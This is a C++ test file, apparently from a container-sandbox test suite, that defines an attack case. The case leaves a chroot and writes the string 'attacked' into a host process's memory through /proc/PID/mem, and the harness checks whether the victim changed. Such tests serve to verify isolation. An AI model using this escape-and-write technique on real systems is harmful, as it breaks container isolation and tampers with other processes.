// SPDX-License-Identifier: MIT
// Leaves the chroot, and writes to the memory of a host process by the host's
// own proc file system: proc_pid_mem(5).
// It has worked if the host finds the process's memory changed.
#include "tests/attacks/rig/attack.hpp"

namespace attacks::host_proc_mem {

void attempt(const Words& words) {
  leave_chroot();
  const int memory = try_open("/proc/" + words[0] + "/mem", O_WRONLY);
  const std::string text = "attacked";
  const auto address = static_cast<off_t>(std::stoul(words[1]));
  try_to(pwrite(memory, text.data(), text.size(), address), "write", "to it");
}

const Entry kEntry({
    .name = "host-proc-mem",
    .title = "leave the chroot, write /proc/PID/mem of a host process",
    .open = "the container's table of mounts is a copy, with the host's own "
            "proc in it. That shows the host's PID namespace to whoever "
            "reaches it, and root may write to what it shows: proc_pid_mem(5)",
    .prepare = start_victim,
    .attempt = attempt,
    .effect = victim_is_changed,
});

}  // namespace attacks::host_proc_mem
